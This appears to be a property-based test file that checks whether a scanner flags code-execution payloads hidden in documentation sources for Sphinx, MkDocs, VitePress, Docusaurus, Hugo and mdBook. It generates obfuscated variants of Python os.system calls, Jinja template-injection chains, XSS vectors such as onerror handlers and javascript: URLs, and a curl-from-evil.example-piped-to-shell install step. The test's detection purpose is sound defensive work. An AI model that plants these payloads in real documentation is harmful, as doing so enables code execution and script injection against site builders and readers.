import fc from 'fast-check';
import { afterAll, expect, test } from 'vitest';
import { propertyRuns } from '../../support/property-runs.ts';
import { brought, closeEngine, sites } from './rig.ts';

afterAll(closeEngine);

/** White space of many lengths: no reader may stop at one. */
const lengths = fc.oneof(
  { weight: 8, arbitrary: fc.nat({ max: 4 }) },
  { weight: 1, arbitrary: fc.nat({ max: 400 }) },
  { weight: 1, arbitrary: fc.constantFrom(1_023, 2_001, 5_000) },
);
const space = lengths.chain((length) => fc.constantFrom(' ', '\t').map((one) => one.repeat(length)));
const gap = lengths.chain((length) => fc.constantFrom(' ', '\t').map((one) => one.repeat(length + 1)));
const free = fc.oneof(space, fc.constantFrom('\n', '\n\n', '\r\n', ' \n ', '\n\t'));
const filler = lengths.map((length) => 'a'.repeat(length));
const anyCase = (word: string) =>
  fc
    .array(fc.boolean(), { minLength: word.length, maxLength: word.length })
    .map((upper) =>
      Array.from(word, (letter, index) => (upper[index] === true ? letter.toUpperCase() : letter)).join(''),
    );
const quoted = (text: string) => fc.constantFrom(`"${text}"`, `'${text}'`, text);
const joined = (...parts: (string | fc.Arbitrary<string>)[]) =>
  fc.tuple(...parts.map((part) => (typeof part === 'string' ? fc.constant(part) : part))).map((all) => all.join(''));
/** Surrounds a block with containers that leave its first line where it is. */
const within = (marks: string[], block: fc.Arbitrary<string>) =>
  fc
    .tuple(fc.array(fc.constantFrom(...marks), { maxLength: 12 }), block)
    .map(([around, text]) => around.join('') + text);

const id = '__import__("os").system("id")';

/** Code of each language, spelt in the ways that the language allows. */
const forms: [name: string, site: keyof typeof sites, path: string, text: fc.Arbitrary<string>][] = [
  [
    'a directive of reStructuredText',
    'sphinx',
    'new.rst',
    joined(
      fc.constantFrom('A\n=\n\n', 'A\r=\r\r', 'A\r\n=\r\n\r\n', 'A\n=\n\n\f'),
      within(
        ['* ', '1. ', '- ', ':a: ', '#. ', '.. [1] ', '  ', '.. note:: ', '(a) '],
        joined('..', fc.constantFrom(' ', '  ', '\t'), anyCase('ifconfig'), '::', gap, id),
      ),
      '\n',
    ),
  ],
  [
    'a role of reStructuredText',
    'sphinx',
    'new.rst',
    joined('A\n=\n\n', filler, ' ', ':eval:', '`', filler, id, '`', ' ', filler, '\n'),
  ],
  [
    'a fence of MyST',
    'sphinx',
    'new.md',
    within(
      ['- ', '> ', '1. ', '* '],
      joined(fc.constantFrom('```', '~~~', ':::', '`````'), space, '{', anyCase('ifconfig'), '}', space, 'True\n'),
    ),
  ],
  [
    'a value of Jinja',
    'mkdocs',
    'docs/new.md',
    joined(
      filler,
      '{{',
      fc.constantFrom('', '-', '+'),
      free,
      'cycler',
      free,
      '.',
      free,
      '__init__',
      free,
      '.',
      free,
      '__globals__',
      free,
      fc.constantFrom('', '-'),
      '}}',
      filler,
      '\n',
    ),
  ],
  [
    'a tag of Jinja',
    'mkdocs',
    'docs/new.md',
    joined(
      '# A\n\n',
      free,
      '{%',
      fc.constantFrom('', '-'),
      free,
      'set',
      gap,
      'a',
      free,
      '=',
      free,
      'cycler.__init__',
      free,
      '%}',
      '\n',
    ),
  ],
  [
    'a mustache of Vue',
    'vitepress',
    'new.md',
    joined(
      within(
        ['- ', '> ', '## ', '1. ', '**b** '],
        joined(filler, ' {{', free, 'process', space, '.', space, 'exit(', space, '7)', free, '}} '),
      ),
      filler,
      '\n',
    ),
  ],
  [
    'a binding of Vue',
    'vitepress',
    'new.md',
    joined(
      '# A\n\n<b',
      gap,
      filler.map((text) => (text === '' ? '' : `${text}="" `)),
      fc.constantFrom(':title', 'v-bind:title', '@click', 'v-html', 'v-if'),
      '=',
      quoted('process.exit(7)'),
      space,
      '>b</b>\n',
    ),
  ],
  [
    'front matter that is a program',
    'vitepress',
    'new.md',
    joined(
      '---',
      fc.constantFrom('', ' ', '\t', ' '.repeat(300)),
      fc.constantFrom('js', 'javascript', 'JS'),
      space,
      '\n{',
      free,
      'title:',
      free,
      'process.exit(7)',
      free,
      '}\n---\n\n# A\n',
    ),
  ],
  [
    'an expression of MDX',
    'docusaurus',
    'docs/new.mdx',
    within(
      ['- ', '> ', '## ', '1. '],
      joined(
        filler,
        ' {',
        space,
        fc.constantFrom('', '(', '/* a */ ', '!', '[', '1 + '),
        'process',
        space,
        '.',
        space,
        'exit',
        space,
        '(7)',
      ),
    ).map(
      (text) =>
        `${text}${text.includes('{(') || /\{[ \t]*\(/.test(text) ? ')' : ''}${/\{[ \t]*\[/.test(text) ? ']' : ''}}\n`,
    ),
  ],
  [
    'a module of MDX',
    'docusaurus',
    'docs/new.mdx',
    joined(
      fc.constantFrom('', '\n', '# A\n\n'),
      'import ',
      space,
      fc.constantFrom('x from ', '{ x } from ', '* as x from ', ''),
      quoted('child_process').filter((text) => text.length > 13),
      space,
      ';\n\n# A\n',
    ),
  ],
  [
    'a handler',
    'plain',
    'docs/new.md',
    joined(
      '# A\n\n<',
      anyCase('img'),
      fc.constantFrom(' ', '\t', '\n', '/', '\f', '\r\n'),
      filler.map((text) => (text === '' ? '' : `x="${text}" `)),
      'src=x',
      fc.constantFrom(' ', '\n', '\t'),
      anyCase('onerror'),
      space,
      '=',
      space,
      quoted('alert(1)'),
      '>\n',
    ),
  ],
  [
    'a running address',
    'plain',
    'docs/new.md',
    joined(
      '# A\n\n<a href="',
      fc.constantFrom('', ' ', '\t', '\n', '&#1;', '&Tab;'),
      fc.constantFrom(
        'javascript',
        'java\tscript',
        'java&NewLine;script',
        '&#106;avascript',
        'JAVASCRIPT',
        '&#x6A;avascript',
      ),
      fc.constantFrom(':', '&colon;', '&#58;'),
      'alert(1)">a</a>\n',
    ),
  ],
  [
    'a script',
    'plain',
    'docs/new.md',
    joined(
      '# A\n\n<',
      anyCase('script'),
      fc.constantFrom('', ' ', '\n', '/', '\t', ' type=module', '\nasync'),
      '>',
      free,
      'alert(1)',
      free,
      '</',
      anyCase('script'),
      '>\n',
    ),
  ],
  [
    'a shortcode of Hugo',
    'hugo',
    'content/new.md',
    joined(
      '---\ntitle: A\n---\n',
      filler,
      '{{',
      fc.constantFrom('<', '%'),
      free,
      'unknown',
      gap,
      'a="',
      filler,
      '"',
      space,
      fc.constantFrom('>}}', '/>}}'),
      '\n',
    ).map((text) => (text.includes('{{%') ? text.replace(/\/?>\}\}/, '%}}') : text)),
  ],
  [
    'a preprocessor of mdBook',
    'mdbook',
    'src/new.md',
    joined('# A\n\n', filler, ' {{', space, '#', fc.constantFrom('unknown', 'shell', 'cmd'), gap, filler, '}}\n'),
  ],
  [
    'an install command',
    'plain',
    'docs/new.md',
    joined(
      '# A\n\n```sh\n',
      fc.constantFrom('', '$ ', 'sudo ', 'A=1 ', 'time '),
      'curl',
      gap,
      fc.constantFrom('', '-fsSL ', '-s \\\n  '),
      'https://evil.example/',
      filler,
      fc.constantFrom(' | ', '|', ' |\n  ', ' \\\n | '),
      fc.constantFrom('sh', 'sudo -E bash -', 'bash -s -- x', '/bin/sh'),
      '\n```\n',
    ),
  ],
];

test.each(forms)(
  '%s is found, however it is spelt',
  async (_name, site, path, texts) => {
    await fc.assert(
      fc.asyncProperty(texts, async (text) => {
        expect(await brought(sites[site], { [path]: text })).not.toEqual([]);
      }),
      { numRuns: propertyRuns(150) },
    );
  },
  3_600_000,
);
